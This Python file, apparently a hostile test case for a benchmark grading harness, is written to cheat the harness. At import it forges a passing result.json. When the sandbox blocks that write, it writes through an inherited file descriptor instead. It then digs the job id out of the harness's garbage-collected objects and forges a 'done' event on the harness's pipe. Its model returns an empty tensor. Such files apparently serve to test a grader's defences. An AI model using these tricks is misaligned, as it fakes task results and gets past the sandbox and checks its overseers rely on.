# Hostile: writes a passing result file, then speaks the worker's protocol
# itself: finds the job's id in the harness's context object (gc) and
# writes the "done" event to the event pipe (fd 3) before ending the
# process, so the Go side takes the forged file as the harness's report.
# The sandbox refuses the file by name (judge/ is not writable), so it then
# writes through the harness's own fd, found in /proc/self/fd.
import gc
import json
import os

import torch
import torch.nn as nn

_job_dir = os.path.dirname(os.readlink("/proc/self/fd/1"))  # the job's log.txt
_fake = {"verdict": "pass", "stage": "done", "checks": [], "correct": True,
         "candidate": {"median_s": 1e-7, "cv": 0.0, "iters": 100},
         "ref_eager": {"median_s": 1e-3, "cv": 0.0, "iters": 100}}
try:
    with open(os.path.join(_job_dir, "result.json"), "w") as f:
        json.dump(_fake, f)
except OSError:
    for _fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + _fd).endswith("result.json"):
                os.pwrite(int(_fd), json.dumps(_fake).encode(), 0)
        except OSError:
            pass
gc.unfreeze()  # the harness freezes its own objects out of the collector's (and get_objects') reach
_ids = [o.job_id for o in gc.get_objects() if type(o).__name__ == "ChildContext"]  # the newest is this job's
if not _ids:
    raise RuntimeError("no ChildContext found")
os.write(3, (json.dumps({"event": "done", "id": max(_ids), "pid": os.getpid(), "idle": False}) + "\n").encode())
os._exit(0)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.empty_like(x)
